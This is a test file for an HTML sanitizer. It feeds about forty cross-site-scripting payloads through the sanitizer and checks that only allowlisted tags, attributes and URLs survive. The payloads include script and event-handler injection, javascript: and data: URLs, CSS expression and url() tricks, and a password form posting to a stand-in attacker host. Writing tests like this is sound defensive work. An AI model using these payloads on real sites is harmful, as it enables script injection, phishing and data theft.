import { describe, expect, it } from "vitest";
import { deliverable } from "./deliverable.ts";

const site = "https://cachimbo.test";
const deliver = (message: string, { dataPictures }: { dataPictures?: boolean } = {}) =>
	deliverable(
		{ message },
		{
			...{ site, dataPictures },
			keepFormula: () => `${site}/uploads/formula.png`,
			pictureOf: async (path) => ({ src: site + path, width: 8, height: 8 }),
		},
	);
const payloads = [
	"<script>alert(1)</script>",
	"<p>a</p></script><script>alert(1)</script>",
	'<img src=x onerror="alert(1)">',
	'<img src="https://a.pe/x.png" onerror="alert(1)" onload=alert(1)>',
	'<a href="javascript:alert(1)">x</a>',
	'<a href=" java\nscript:alert(1)">x</a>',
	'<a href="&#106;avascript:alert(1)">x</a>',
	'<a href="vbscript:x">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>',
	'<iframe src="https://evil.pe/&quot; onload=&quot;alert(1)"></iframe>',
	'<video src="javascript:alert(1)" onerror=alert(1)></video>',
	'<img src="data:text/html;base64,PHNjcmlwdD4=">',
	'<img src="data:image/svg+xml;base64,PHN2Zz4=">',
	'<form action="https://evil.pe"><input name="clave"><button>Enviar</button></form>',
	"<svg onload=alert(1)><script>alert(1)</script></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	'<p style="background:url(https://evil.pe/x);position:fixed;top:0">x</p>',
	'<p style="color:expression(alert(1))">x</p>',
	'<p style="color:red;&quot; onclick=alert(1) x=&quot;">x</p>',
	'<p style="font-family:&quot;&gt;<script>alert(1)</script>">x</p>',
	"<style>@import url(https://evil.pe)</style><link rel=stylesheet href=https://evil.pe>",
	'<meta http-equiv="refresh" content="0;url=https://evil.pe"><base href="https://evil.pe">',
	'<object data="https://evil.pe"></object><embed src="https://evil.pe">',
	'<span data-formula="&lt;script&gt;alert(1)&lt;/script&gt;"></span>',
	'<span data-formula="\\href{javascript:alert(1)}{x}"></span><span data-formula="\\htmlData{a=b}{x}"></span>',
	'<span data-formula="\\def\\a{\\a\\a}\\a"></span>',
	'<span data-formula="\\text{&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;}"></span>',
	'<span data-formula="\\color{url(https://evil.pe)}{x}"></span><span data-formula="\\includegraphics{https://evil.pe}"></span>',
	'<x-embed data-n="0"><script>alert(1)</script></x-embed>\uE0000\uE001',
	'<img src="https://a.pe/x.png" alt="&#xE000;0&#xE001;"><iframe src="https://x/onerror=alert(1)//"></iframe>',
	'<a href="https://a.pe/&#xE000;0&#xE001;">x</a><iframe src="https://x/ onmouseover=alert(1)//"></iframe>',
	'<p style="color:red;&#57344;0&#57345;" dir="&#xE000;0&#xE001;">x</p><iframe src="https://x/y"></iframe>',
	'&#xE000;0&#xE001;<iframe src="https://x/y"></iframe>',
	'<div data-video="https://a.pe/&quot;><script>alert(1)</script>"></div>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	"<!--><script>alert(1)</script>-->",
	"<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
];

const tags = /<(\/?)([a-z][\w-]*)((?:\s+[\w-]+="[^"<>]*")*)\s*\/?>/g;
const harmless = new Set(
	"p br span div strong em u s sub sup code pre blockquote hr a img h1 h2 h3 h4 h5 h6 ul ol li".split(" "),
);

describe("hostile HTML (P-052)", () => {
	it.each(payloads)("is delivered without its payload: %s", async (payload) => {
		const { html } = await deliver(`<p>antes</p>${payload}<p>después</p>`);
		expect(html.replace(tags, ""), "nothing but whole, plain tags").not.toMatch(/[<>]/);
		for (const [, , name = "", attributes = ""] of html.matchAll(tags)) {
			expect(harmless).toContain(name);
			for (const [, attribute, value = ""] of attributes.matchAll(/([\w-]+)="([^"]*)"/g)) {
				expect(attribute).toMatch(/^(style|dir|href|target|rel|src|alt|width|height|start)$/);
				if (attribute === "href") expect(value).toMatch(/^(https?:|mailto:|tel:)/);
				if (attribute === "src") expect(value).toMatch(/^https?:/);
				if (attribute === "style") expect(value).not.toMatch(/url|expression|position|@|[<>{}]/i);
			}
		}
	});

	it("keeps embedded data in a preview only if it is a picture", async () => {
		const message = '<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html;base64,aaaa">';
		expect((await deliver(message)).html).toBe("");
		expect((await deliver(message, { dataPictures: true })).html.match(/<img/g)).toHaveLength(1);
	});

	it("takes less than quadratic time", async () => {
		await deliver('<span data-formula="x">');
		for (const piece of [
			"<",
			"<p>",
			'<x-embed data-n="0">',
			'<li data-checked="true">',
			"<ol>",
			'<span data-formula="x">',
			"&nbsp;",
			'<a href="x">',
		]) {
			const began = process.cpuUsage();
			await deliver(piece.repeat(100_000 / piece.length));
			// CPU time, not wall time, since the machine may be busy.
			expect(process.cpuUsage(began).user / 1000, piece).toBeLessThan(2000);
		}
	});
});
